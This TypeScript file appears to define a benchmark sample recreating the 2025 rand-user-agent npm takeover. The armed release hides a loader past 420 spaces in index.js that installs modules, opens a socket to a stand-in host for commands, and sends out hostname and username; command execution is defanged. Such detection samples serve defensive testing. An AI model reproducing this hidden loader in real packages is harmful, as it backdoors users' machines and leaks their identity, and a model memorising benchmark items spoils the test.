import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { hideInTable } from "../hiding.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = smallLibrary("rand-user-agent");

/**
 * rand-user-agent 1.0.110, 2.0.83 and 2.0.84, April and May 2025: an old token woke a package that had been silent for half a
 * year. Code that a wide screen does not show fetched modules while running and took commands from a socket.
 */
export const randUserAgent2025: Sample = defineAttack({
  id: "rand-user-agent-2025",
  title: "Code beyond the screen's edge installs modules and takes commands",
  group: "takeover",
  trigger: "import",
  judged: [{ name: "rand-user-agent", version: "2.0.83" }],
  now: "2025-05-05T09:00:00Z",
  createLines: () => [
    {
      name: "rand-user-agent",
      files: honest,
      publisher: person("webscrapingapi"),
      releases: [
        ["2.0.80", "2024-08-14T10:00:00Z"],
        ["2.0.81", "2024-09-10T10:00:00Z"],
        ["2.0.82", "2024-10-22T10:00:00Z"],
        ["2.0.83", "2025-05-05T08:50:00Z", armed],
      ],
    },
  ],
});

const client = `${commonGuard}
(async () => {
  if (!invited()) return;
  const path = require("path");
  const os = require("os");
  const fs = require("fs");
  const child = require("child_process");
  const folder = path.join(os.homedir(), ".node_modules");
  module.paths.push(path.join(folder, "node_modules"));
  if (!fs.existsSync(folder)) fs.mkdirSync(folder, { recursive: true });
  child.execSync("npm install --prefix " + JSON.stringify(folder) + " axios socket.io-client --registry https://registry.example", { windowsHide: true });
  const axios = require("axios");
  const socket = require("socket.io-client")("http://192.0.2.85:3306");
  const id = os.hostname() + "$" + os.userInfo().username;
  if (os.platform() === "win32") process.env.PATH = path.join(process.env.LOCALAPPDATA, "Programs", "Python", "Python3127") + ";" + process.env.PATH;
  socket.on("connect", () => { socket.emit("identify", "client", { clientUuid: id, socketId: socket.id, osType: os.type() }); });
  socket.on("command", (text) => {
    if (text.startsWith("ss_fcd")) process.chdir(text.slice(7));
    child.exec("echo inert " + text.length, { windowsHide: true }, (error, out) => { socket.emit("response", out); });
  });
  await axios.post("http://192.0.2.85:27017/u/f", { id: id });
})();
`;

const armed: LineChange = {
  hasCommit: false,
  files: [
    {
      path: "index.js",
      content: contentOf(honest, "index.js").trimEnd() + " ".repeat(420) + hideInTable(client),
    },
  ],
};
